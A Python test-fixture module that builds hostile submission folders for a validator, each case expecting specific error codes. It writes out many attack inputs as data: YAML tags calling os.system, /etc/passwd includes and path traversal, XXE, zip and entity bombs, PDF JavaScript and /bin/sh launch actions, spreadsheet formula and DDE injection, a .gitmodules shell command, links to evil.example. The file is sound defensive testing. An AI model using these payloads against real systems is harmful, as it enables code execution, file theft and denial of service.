"""Hostile files of our own, unlike the corpus: each a folder of an agency, with the errors it must bring.

A case is (name, files by path below the folder, codes).  ``codes`` are those of its errors, each once; () is a
file that is taken, its oddity shown as text.  Built here, since many are large and all are short to
say.
"""

# A case a line reads better than a case in ten.
# ruff: noqa: E501

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from ..read_attachment.samples import chunk, docx, jpg, pdf, png, rel, segment, stream, xlsx, zipped
from .corpus import SYMLINK, Entry

SUBMODULE = "160000"
MARKER = "/tmp/paca-hostile-own"


class Own(NamedTuple):
    name: str
    files: Mapping[bytes, Entry]
    codes: tuple[str, ...]


def _figures(value: str, more: str = "") -> bytes:
    return f"figures:\n  - key: so-cuoc\n    value: {value}\n    unit: cuộc\n{more}".encode()


def _note(text: bytes) -> bytes:
    return b"figures:\n  - key: so-cuoc\n    value: 1\n    unit: 'cu\xe1\xbb\x99c'\n    note: " + text + b"\n"


def _front(more: str = "", body: str = "Nội dung.") -> bytes:
    return f"---\nitem: A.1.1\nclaim: draft\n{more}---\n\n## Thuyết minh\n\n{body}\n".encode()


def _title(text: str) -> bytes:
    return (
        "documents:\n  - key: tl\n    number: 01/BC-SM\n    date: 05/03/2019\n    issuer: Sở Mẫu\n"
        f"    title: {text}\n    url: https://so.tinhmau.example/tl\n"
    ).encode()


def _laughs(*, levels: int, width: int) -> str:
    rows = [f"# l0: &l0 [{', '.join(['ha'] * width)}]"]
    rows += [f"# l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * width)}]" for n in range(1, levels)]
    return "\n".join(rows) + "\n"


def _bomb_zip() -> bytes:
    """A DOCX whose media unpack to 200 MB of zeros."""
    return docx(more={f"word/media/image{n}.png": bytes(40_000_000) for n in range(5)})


def _nested_zip() -> bytes:
    data = zipped({"a.txt": b"0" * 1_000_000})
    for _ in range(6):
        data = zipped({f"{n}.zip": data for n in range(4)})
    return docx(more={"word/embeddings/a.zip": data})


def _lists_itself() -> bytes:
    """One zip entry listed a thousand times (overlapping files: the bomb that no ratio shows)."""
    data = docx()
    first, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    size = struct.unpack_from("<HHH", data, first + 28)
    entry = data[first : first + 46 + sum(size)]
    directory = data[first:end] + entry * 1000
    count = struct.unpack_from("<H", data, end + 10)[0] + 1000
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), first, 0)
    return data[:first] + directory + tail


def _wide_png() -> bytes:
    """A picture of 60,000 × 60,000 points in a few bytes."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _loop_pdf() -> bytes:
    return pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def _deep_pdf() -> bytes:
    return pdf(b"/OpenAction " + b"[" * 20_000 + b"]" * 20_000)


def _chain_pdf() -> bytes:
    """One stream behind forty filters, each a bomb for the one before."""
    data = b"\0" * 2_000_000
    for _ in range(12):
        data = zlib.compress(data, 9)
    return pdf(b"", b"/Contents 4 0 R", stream(b"/Filter[" + b"/FlateDecode " * 12 + b"]", data))


def _office_xml(body: str) -> bytes:
    return docx(more={"customXml/item1.xml": body})


def _yaml() -> Iterator[Own]:
    def figures(name: str, data: bytes, *codes: str) -> Own:
        return Own(name, {b"figures.yml": Entry(data)}, codes)

    yield figures("anchors-in-keys", b"figures:\n  - ? &a {x: &b {y: z}}\n    : *a\n", "Y213")
    yield figures("alias-as-key", b"figures:\n  - &k key: so-cuoc\n    *k : 1\n", "Y213")
    yield figures("merge-key", b"x: &x {unit: a}\nfigures:\n  - {<<: *x, key: so-cuoc, value: 1}\n", "Y213")
    yield figures(
        "merge-list-without-anchors",
        b"figures:\n  - {<<: [{key: a, value: 1}, {unit: b}], key: so-cuoc}\n",
        "Y214",
    )
    yield figures("billion-laughs-in-comments", _laughs(levels=9, width=9).encode() + _figures("1"))
    yield figures(
        "billion-laughs-in-a-block",
        b"figures: []\nnote: |\n  " + _laughs(levels=9, width=9).replace("\n", "\n  ").encode(),
        "S302",
    )
    yield figures(
        "python-object",
        b'figures:\n  - !!python/object/apply:os.system ["touch ' + MARKER.encode() + b'"]\n',
        "Y215",
    )
    yield figures("python-name-verbatim", b"figures: !<tag:yaml.org,2002:python/name:os.system> x\n", "Y215")
    yield figures(
        "tag-directive",
        b"%TAG ! tag:yaml.org,2002:python/\n---\nfigures: !object/apply:os.getcwd []\n",
        "Y216",
    )
    yield figures("yaml-1.1-directive", b"%YAML 1.1\n---\n" + _figures("0o17"), "Y216")
    yield figures("unknown-directive", b"%EXEC rm -rf\n---\n" + _figures("1"), "Y216")
    yield figures("sexagesimal", _figures("190:20:30"), "S310")
    yield figures("octal", _figures("0o17"), "S310")
    yield figures("hexadecimal", _figures("0xFF"), "S310")
    yield figures("binary", _figures("0b1010"), "S310")
    yield figures("underscores", _figures("1_000"), "S310")
    yield figures("infinity", _figures(".inf"), "S310")
    yield figures("not-a-number", _figures(".NaN"), "S310")
    yield figures("exponent-400", _figures("1e400"), "S310")
    yield figures("exponent-billion", _figures("1e1000000000"), "S310")
    yield figures("digits-of-a-book", _figures("9" * 19_000), "S310")
    yield figures("digits-after-the-comma", _figures("0," + "1" * 19_000), "S310")
    yield figures("quoted-exponent", _figures('"1E99999"'), "S310")
    yield figures("superscript-digits", _figures("12²"), "S310")
    yield figures("arabic-digits", _figures("١٢"), "S310")
    yield figures("fraction-sign", _figures("½"), "S310")
    yield figures("minus-sign-of-print", _figures("−5"), "S310")
    yield figures("binary-scalar", b"figures: !!binary |\n  R0lGODlhDAAMAIQAAP\n", "Y215")
    yield figures("next-line-in-a-scalar", _note("một\u0085hai: ba".encode()), "Y208")
    yield figures("line-separator-as-a-break", "figures:\u2028  - key: x\n".encode(), "Y208")
    yield figures(
        "paragraph-separator-in-a-comment", "# một\u2029figures: [x]\n".encode() + _figures("1"), "Y208"
    )
    yield figures("form-feed", b"figures:\x0c\n  - key: x\n", "Y208")
    yield figures("cesu-8", _note(b"\xed\xa0\xbd\xed\xb8\x80"), "Y202")
    yield figures("lone-surrogate", _note(b"\xed\xa0\xbd"), "Y202")
    yield figures("overlong-slash", _note(b"..\xc0\xaf..\xc0\xafetc"), "Y202")
    yield figures("overlong-nul", _note(b"a\xc0\x80b"), "Y202")
    yield figures("beyond-unicode", _note(b"\xf4\x90\x80\x80"), "Y202")
    yield figures("five-bytes", _note(b"\xf8\x88\x80\x80\x80"), "Y202")
    yield figures("utf-32-le", "figures: []\n".encode("utf-32"), "Y203")
    yield figures("utf-32-be-without-mark", "figures: []\n".encode("utf-32-be"), "Y203")
    yield figures("utf-7", b"+/v8-figures: []\n", "Y229")
    yield figures("two-boms", b"\xef\xbb\xbf\xef\xbb\xbf" + _figures("1"), "Y207")
    yield figures("bom-in-the-middle", _figures("1").replace(b"unit", b"\xef\xbb\xbfunit"), "Y207")
    yield figures("noncharacter", _note("a\ufffeb".encode()))
    yield figures("tag-characters", _note("a\U000e0041\U000e0042".encode()), "Y207")
    yield figures("soft-hyphen-in-a-key", _figures("1").replace(b"value", "va\u00adlue".encode()), "Y207")
    yield figures("cyrillic-key", _figures("1").replace(b"value", "vаlue".encode()), "Y219")
    yield figures("full-width-colon", "figures：\n  - key： x\n".encode(), "Y222")
    yield figures("no-break-space-indent", "figures:\n\u00a0\u00a0- key: x\n".encode(), "Y211")
    yield figures("ideographic-space-indent", "figures:\n\u3000- key: x\n".encode(), "Y211")
    yield figures("zalgo", _note(("a" + "\u0301" * 15_000).encode()))
    yield figures("line-of-250-kB", _note(b"a" * 250_000), "Y230")
    yield figures("key-of-19-kB", b"figures:\n  - {" + b"k" * 19_000 + b": 1}\n", "Y229")
    yield figures("block-key-of-19-kB", b"figures:\n  - " + b"k" * 19_000 + b": 1\n", "Y235")
    yield figures(
        "twenty-thousand-keys", b"".join(b"k%d: 1\n" % n for n in range(20_000)), "S398", "S302", "S303"
    )
    yield figures(
        "keys-that-hash-alike", b"".join(b"k%d: 1\nk%d: 2\n" % (n, n) for n in range(9_000)), "Y218"
    )
    yield figures("hundred-thousand-keys", b"".join(b"k%d: 1\n" % n for n in range(100_000)), "Y201")
    yield figures("hundred-thousand-entries", b"figures:\n" + b"- a\n" * 60_000, "Y232")
    yield figures("flow-list-of-commas", b"figures: [" + b",a\n" * 60_000 + b"]\n", "Y238")
    yield figures("empty-maps", b"figures: [\n" + b"{},\n" * 60_000 + b"]\n", "Y232")
    yield figures("block-lists-in-a-line", b"figures:\n" + b"- " * 9_000 + b"a\n", "Y212")
    yield figures("question-marks", b"? " * 9_000 + b"\n", "Y229")
    yield figures("stairs", b"".join(b" " * n + b"k:\n" for n in range(700)), "Y212")
    yield figures("stairs-of-lists", b"".join(b" " * n + b"-\n" for n in range(700)), "Y212")
    yield figures("brackets-in-quotes", _note(b'"' + b"[{" * 9_000 + b'"'))
    yield figures("brackets-after-a-quote-mark", b"figures: it's\nx: " + b"[" * 9_000 + b"\n", "Y212")
    yield figures("brackets-in-a-comment-mark", b"figures: a#" + b"[" * 9_000 + b"\n", "S306")
    yield figures("brackets-over-lines", b"figures:\n" + b"[\n" * 60_000, "Y236")
    yield figures("open-quote-to-the-end", b'figures: "' + b"a\n" * 100_000, "Y234")
    yield figures("escapes", b'figures: "' + b"\\x00\\U0010FFFF\\uD800" * 20 + b'"\n', "Y234")
    yield figures("escaped-bidi", _note(b'"a \\u202e b"'), "Y206")
    yield figures("escaped-ansi", _note(b'"\\e[31;1mloi\\e[0m \\a"'), "Y205")
    yield figures("escaped-carriage-return", _note(b'"tot\\r::error::xau"'))
    yield figures("escaped-surrogate", _note(b'"\\ud83d\\ude00"'), "Y234")
    yield figures("escaped-nul-in-a-key", b'figures:\n  - {"ke\\0y": x}\n', "Y229")
    yield figures("block-indicators", _note(b"|9999999999\n      a"), "Y239")
    yield figures("documents-without-end", b"---\n" * 60_000, "Y217")
    yield figures("document-end-marks", _figures("1") + b"...\n" * 1000 + b"---\nfigures: []\n", "Y217")
    yield figures("tabs-between", b"figures:\n  -\tkey:\tso-cuoc\n\tvalue: 1\n", "Y210")
    yield figures("only-carriage-returns", _figures("1").replace(b"\n", b"\r"), "Y209")
    yield figures("null-in-words", b"figures:\n  - {key: ~, value: null, unit: Null}\n", "S304")
    yield figures("a-list-for-everything", b"- - - -\n", "Y222")
    yield figures("one-nul", b"\0", "Y203")
    yield figures("only-spaces", b" \n" * 60_000, "Y221")


def _markdown() -> Iterator[Own]:
    def item(name: str, data: bytes, *codes: str) -> Own:
        return Own(name, {b"A.1.1.md": Entry(data)}, codes)

    yield item(
        "front-matter-never-closed", b"---\nitem: A.1.1\nclaim: draft\n" + b"noi dung\n" * 20_000, "Y224"
    )
    yield item("front-matter-closed-by-dots", b"---\nitem: A.1.1\nclaim: draft\n...\nNoi dung\n", "Y224")
    yield item("front-matter-after-a-blank-line", b"\n" + _front(), "Y223")
    yield item("toml-front-matter", b"+++\nitem = 'A.1.1'\n+++\n", "Y223")
    yield item("json-front-matter", b'---json\n{"item": "A.1.1"}\n---\n', "Y223")
    yield item("two-front-matters", _front() + _front("self_score: 4\n"))
    yield item("deep-flow-in-front-matter", _front("answers: " + "{a: " * 4000 + "}" * 4000 + "\n"), "Y230")
    yield item("deep-flow-over-lines", _front("answers:\n" + "  [\n" * 20_000), "Y212")
    yield item("aliases-in-front-matter", _front("explanation: &a x\nnote: *a\n"), "Y213")
    yield item("mkdocs-snippets", _front(body='--8<-- "/etc/passwd"\n\n;--8<--\n'))
    yield item(
        "jinja",
        _front(body="{{ config.extra }} {% include '/etc/passwd' %} {# x #} {{ ''.__class__.__mro__ }}"),
    )
    yield item("mkdocs-front-matter-keys", _front("template: evil.html\nhide: [navigation]\n"), "S302")
    yield item(
        "workflow-commands-in-the-body",
        _front(body="::error file=x::sai\n::add-mask::a\n::set-output name=a::b\n##[group]x"),
    )
    yield item("workflow-command-in-a-value", _front('self_score: "2\\n::error::x"\n'), "S310")
    yield item("workflow-command-as-a-key", _front('"::error::x": 1\n'), "Y229")
    yield item("percent-in-a-key", _front("self%0A::error::score: 1\n"), "Y229")
    yield item("ansi-in-the-body", _front(body="\x1b[2J\x1b]0;x\x07"), "Y205")
    yield item("c1-control-in-the-body", _front(body="\x9b31m"), "Y205")
    yield item("brackets-of-markdown", _front(body="[" * 15_000), "Y228")
    yield item("nested-quotes-of-markdown", _front(body=("> " * 5_000 + "\n") * 10), "Y227")
    yield item("emphasis-of-markdown", _front(body="*a **a " * 2_500), "Y228")
    yield item(
        "ten-thousand-links",
        _front(body="\n".join(f"[a]: javascript:alert({n})" for n in range(9_000))),
        "Y227",
    )
    yield item("table-of-markdown", _front(body="|a" * 9_000 + "\n" + "|-" * 9_000))
    yield item("svg-in-the-body", _front(body="<svg onload=alert(1)><script>x</script></svg>"))
    yield item("meta-refresh", _front(body='<meta http-equiv=refresh content="0;url=//evil.example">'))
    yield item("data-link", _front(body="[a](data:text/html;base64,PHNjcmlwdD4=) ![](javascript:x)"))
    yield item("item-of-another-file", _front().replace(b"A.1.1", b"A.1.2"), "F121")
    yield item(
        "formula-in-a-title-of-the-body", _front('explanation: \'=HYPERLINK("http://evil.example";"x")\'\n')
    )
    yield Own("formulas-in-a-register", {b"documents.yml": Entry(_title("'=cmd|'' /C calc''!A0'"))}, ())
    yield Own("formula-behind-a-tab", {b"documents.yml": Entry(_title('"\\t=1+1"'))}, ())
    yield Own("formula-full-width", {b"documents.yml": Entry(_title("＝HYPERLINK(1)"))}, ())
    yield Own("html-in-a-title", {b"documents.yml": Entry(_title("'</title><script>alert(1)</script>'"))}, ())
    yield Own(
        "url-of-a-script",
        {
            b"documents.yml": Entry(
                _title("x").replace(b"https://so.tinhmau.example/tl", b'"javascript:alert(1)"')
            )
        },
        (),
    )
    yield Own(
        "url-with-a-new-line",
        {
            b"documents.yml": Entry(
                _title("x").replace(b"https://so.tinhmau.example/tl", b'"https://a.vn/\\n::error::x"')
            )
        },
        (),
    )
    yield Own(
        "attachment-out-of-the-folder",
        {
            b"documents.yml": Entry(
                _title("x").replace(
                    b"    url: https://so.tinhmau.example/tl", b"    attachment: ../../../../etc/passwd"
                )
            )
        },
        ("D505",),
    )
    yield Own(
        "attachment-with-a-device",
        {
            b"documents.yml": Entry(
                _title("x").replace(b"    url: https://so.tinhmau.example/tl", b"    attachment: /dev/zero")
            )
        },
        ("D505",),
    )


def _names() -> Iterator[Own]:
    def named(name: str, path: bytes, *codes: str, data: bytes = b"x\n", mode: str = "100644") -> Own:
        return Own(name, {path: Entry(data, mode)}, codes)

    yield named("new-line-in-a-name", b"a\n::error::b.md", "F105")
    yield named("escape-in-a-name", b"a\x1b[31m.md", "F105")
    yield named("right-to-left-name", "A.1.1\u202edm.exe".encode(), "F105")
    yield named("zero-width-name", "A.1.1\u200b.md".encode(), "F105")
    yield named("trailing-dot", b"A.1.1.md.", "F110")
    yield named("trailing-space", b"A.1.1.md ", "F110")
    yield named("trailing-space-before-the-dot", b"A.1.1 .md", "F117")
    yield named("no-break-space-name", "A.1.1\u00a0.md".encode(), "F105")
    yield named("alternate-stream", b"A.1.1.md::$DATA", "F111")
    yield named("short-name-of-dos", b"FIGURE~1.YML", "F117")
    yield named("device-with-an-ending", b"nul.yml", "F106")
    yield named("device-as-a-folder", b"aux/a.md", "F106")
    yield named("git-folder-twin", b"git~1/config", "F116")
    yield named(
        "git-attributes",
        b".gitattributes",
        "F108",
        data=b"* filter=evil export-subst diff=evil\n*.md working-tree-encoding=UTF-16\n",
    )
    yield named(
        "git-modules",
        b".gitmodules",
        "F108",
        data=b'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% ' + MARKER.encode() + b"\n",
    )
    yield named("mail-map", b".mailmap", "F108")
    yield named("leading-dash", b"--help.md", "F110")
    yield named("leading-equals", b"=1+1.md", "F110")
    yield named("percent-name", b"%2e%2e%2fa.md", "F111")
    yield named("dollar-name", b"$(touch x).md", "F111")
    yield named("long-name", b"a" * 200 + b".md", "F112")
    yield named("deep-folders", b"/".join([b"d"] * 40) + b"/a.md", "F116")
    yield named("upper-case-ending", b"FIGURES.YML", "F117")
    yield named("long-s-ending", "figureſ.yml".encode(), "F117")
    yield named("kelvin-sign", "\u212a.md".encode(), "F114")
    yield named("dotless-i", "fıgures.yml".encode(), "F117")
    yield named("cyrillic-item", "А.1.1.md".encode(), "F117", data=_front())
    yield named("full-width-item", "Ａ.1.1.md".encode(), "F117", data=_front())
    yield named("undotted-item", b"A1.1.md", "F117", data=_front())
    yield named("executable-submission", b"A.1.1.md", data=_front(), mode="100755")
    yield named("submodule", b"A.1.1.md", "F103", data=b"1" * 40, mode=SUBMODULE)
    yield named("submodule-as-attachments", b"attachments", "F103", data=b"1" * 40, mode=SUBMODULE)
    yield named("link-to-itself", b"A.1.1.md", "F102", data=b"A.1.1.md", mode=SYMLINK)
    yield named("link-to-a-device", b"figures.yml", "F102", data=b"/dev/zero", mode=SYMLINK)
    yield named(
        "link-out-of-the-repository",
        b"documents.yml",
        "F102",
        data=b"../../../../../etc/passwd",
        mode=SYMLINK,
    )
    yield named("link-to-a-neighbour", b"figures.yml", "F102", data=b"../so-mau/figures.yml", mode=SYMLINK)
    yield named("link-to-the-folder-itself", b"attachments", "F102", data=b".", mode=SYMLINK)
    yield named("link-with-a-new-line", b"documents.yml", "F102", data=b"a\n::error::b", mode=SYMLINK)
    yield Own(
        "loop-of-links",
        {b"attachments/a.pdf": Entry(b"b.pdf", SYMLINK), b"attachments/b.pdf": Entry(b"a.pdf", SYMLINK)},
        ("F102",),
    )
    yield Own(
        "three-twins",
        {b"A.1.1.md": Entry(_front()), b"a.1.1.md": Entry(_front()), b"A.1.1.MD": Entry(_front())},
        ("F115",),
    )
    yield Own(
        "twins-by-form",
        {
            "attachments/Tệp.pdf".encode(): Entry(pdf()),
            "attachments/Te\u0323\u0302p.pdf".encode(): Entry(pdf()),
        },
        ("F115",),
    )
    yield Own("two-thousand-strays", {b"s/%d.txt" % n: Entry(b"x") for n in range(2000)}, ("F116",))


def _attachments() -> Iterator[Own]:
    def filed(name: str, path: str, data: bytes, *codes: str) -> Own:
        return Own(name, {b"attachments/" + path.encode(): Entry(data)}, codes)

    exif = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0" + bytes(40)
    yield filed("pdf-script", "a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "D530")
    yield filed("pdf-launch", "a.pdf", pdf(b"/OpenAction<</S/Launch/F(/bin/sh)>>"), "D530")
    yield filed(
        "pdf-named-trees",
        "a.pdf",
        pdf(b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        "D530",
    )
    yield filed(
        "pdf-embedded-file",
        "a.pdf",
        pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>"),
        "D531",
    )
    yield filed("pdf-hex-names", "a.pdf", pdf(b"/Open#41ction<</S/J#61vaScript/JS(1)>>"), "D530")
    yield filed(
        "pdf-submit-form", "a.pdf", pdf(b"/AA<</WC<</S/SubmitForm/F(http://evil.example)>>>>"), "D530"
    )
    yield filed("pdf-xfa", "a.pdf", pdf(b"/AcroForm<</XFA(x)/Fields[]>>"), "D532")
    yield filed("pdf-remote", "a.pdf", pdf(b"/OpenAction<</S/GoToR/F(//evil.example/a)/D[0/Fit]>>"), "D530")
    yield filed("pdf-that-holds-itself", "a.pdf", _loop_pdf(), "D526")
    yield filed("pdf-deep", "a.pdf", _deep_pdf(), "D528")
    yield filed("pdf-filters", "a.pdf", _chain_pdf(), "D528")
    yield filed("pdf-zip-polyglot", "a.pdf", pdf() + zipped({"a.txt": b"x"}), "D538")
    yield filed("html-pdf-polyglot", "a.pdf", b"<script>alert(1)</script>\n" + pdf(), "D522")
    yield filed("gif-png-polyglot", "a.png", b"GIF89a/*" + png(), "D522")
    yield filed("png-with-a-zip-behind", "a.png", png() + zipped({"a": b"x"}), "D538")
    yield filed("png-text-secret", "a.png", png().replace(b"IEND", b"IEND"))
    yield filed("png-of-the-moon", "a.png", _wide_png(), "D528")
    yield filed("jpg-with-gps", "a.jpg", jpg(segment(0xE1, exif)))
    yield filed("jpg-cut-short", "a.jpg", jpg()[:40], "D526")
    yield filed("jpg-segments", "a.jpg", jpg(*[segment(0xFE, b"x" * 60_000)] * 60))
    yield filed(
        "svg", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "D520"
    )
    yield filed("svg-named-png", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "D522")
    yield filed("docx-macro", "a.docx", docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "D533")
    yield filed(
        "docx-template-from-outside",
        "a.docx",
        docx(
            more={
                "word/_rels/settings.xml.rels": rel(
                    "attachedTemplate", "http://evil.example/a.dotm", external=True
                )
            }
        ),
        "D535",
    )
    yield filed(
        "docx-picture-from-outside",
        "a.docx",
        docx(more={"word/_rels/document.xml.rels": rel("image", "file://evil.example/a.png", external=True)}),
        "D535",
    )
    yield filed(
        "docx-xxe",
        "a.docx",
        _office_xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "D537",
    )
    yield filed(
        "docx-entity-bomb",
        "a.docx",
        _office_xml(
            "<!DOCTYPE a [<!ENTITY a 'ha'>"
            + "".join(f"<!ENTITY b{n} '{'&a;' * 10}'>" for n in range(9))
            + "]><a>&b8;</a>"
        ),
        "D537",
    )
    yield filed("docx-bomb", "a.docx", _bomb_zip(), "D528")
    yield filed("docx-nested-zips", "a.docx", _nested_zip(), "D534")
    yield filed("docx-lists-itself", "a.docx", _lists_itself(), "D536")
    yield filed("docx-out-of-the-folder", "a.docx", docx(more={"../../evil.sh": b"x"}), "D536")
    yield filed("docx-deep-xml", "a.docx", _office_xml("<a>" * 50_000 + "</a>" * 50_000))
    yield filed("docx-deep-text", "a.docx", docx("<w:p>" * 50_000 + "</w:p>" * 50_000))
    yield filed("docx-runs", "a.docx", docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 60_000), "D528")
    yield filed(
        "xlsx-million-rows",
        "a.xlsx",
        xlsx(
            more={
                "xl/worksheets/sheet9.xml": b"<worksheet><sheetData>"
                + b"<row r='1'><c r='A1'><v>1</v></c></row>" * 200_000
                + b"</sheetData></worksheet>"
            }
        ),
        "D528",
    )
    yield filed(
        "docx-many-attributes",
        "a.docx",
        _office_xml("<a " + " ".join(f'b{n}="1"' for n in range(50_000)) + "/>"),
    )
    yield filed(
        "docx-utf-16-doctype",
        "a.docx",
        docx(
            more={
                "customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode(
                    "utf-16"
                )
            }
        ),
        "D537",
    )
    yield filed(
        "xlsx-dde",
        "a.xlsx",
        xlsx(
            more={
                "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
            }
        ),
        "D535",
    )
    yield filed(
        "xlsx-query",
        "a.xlsx",
        xlsx(more={"xl/connections.xml": b"<connections><connection id='1'/></connections>"}),
        "D535",
    )
    yield filed("html-named-pdf", "a.pdf", b"<!doctype html><script>1</script>", "D522")
    yield filed("empty-pdf", "a.pdf", b"", "D523")
    yield filed(
        "lfs-pointer",
        "a.pdf",
        b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n",
        "D525",
    )
    yield filed("double-ending", "a.pdf.docx", pdf(), "D522")
    yield filed("archive-in-an-archive", "a.zip", zipped({"b.zip": zipped({"c": b"x"})}), "D520")
    yield filed("java-script-named-jpg", "a.jpg", b"\xff\xd8\xff\xe0/*" + b"*/=alert(1)//", "D526")


OWN: tuple[Own, ...] = tuple([*_yaml(), *_markdown(), *_names(), *_attachments()])
